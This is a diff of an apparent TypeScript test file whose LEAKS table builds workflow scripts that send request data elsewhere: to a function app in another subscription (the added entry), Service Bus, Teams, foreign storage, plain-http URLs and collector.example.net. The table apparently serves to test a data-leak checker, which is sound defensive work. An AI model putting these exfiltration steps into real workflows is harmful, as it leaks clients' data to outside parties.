@@ -34,6 +34,11 @@ const LEAKS: Readonly<Record<string, (steps: readonly string[]) => readonly stri
   'a Service Bus message to another namespace': (steps) => [...steps, '  send trigger.body to servicebus("collector-bus", "inbox")'],
   'a Teams post in another tenant': (steps) => [...steps, '  send string(trigger.body) to teams("9f8e7d6c-5b4a-4392-8170-6f5e4d3c2b1a", "19:leak@thread.tacv2")'],
   'a store in another storage account': (steps) => [...steps, '  store trigger.body in blob("collectorstorage", "copies")'],
+  // The client's app's name, in a subscription jig.yaml does not name: another tenant's app of that name.
+  "a function of an app of the client's name in another subscription": (steps) => [
+    ...steps,
+    '  call function post "/subscriptions/9f8e7d6c-5b4a-4392-8170-6f5e4d3c2b1a/resourceGroups/crm/providers/Microsoft.Web/sites/ocr-contoso/functions/Leak" body trigger.body',
+  ],
   'a call to the client\'s own app over plain http': (steps) => [...steps, '  call http post "http://ocr-contoso.azurewebsites.net/leak" body trigger.body'],
   'a call through a let': (steps) => [...steps, '  let copy = { kept: trigger.body }', '  call http post "https://collector.example.net/leak" body copy.kept'],
   'a call built by interpolation': (steps) => [...steps, '  call http post "https://collector.example.net/leak?d=${string(trigger.body)}" body "ping"'],
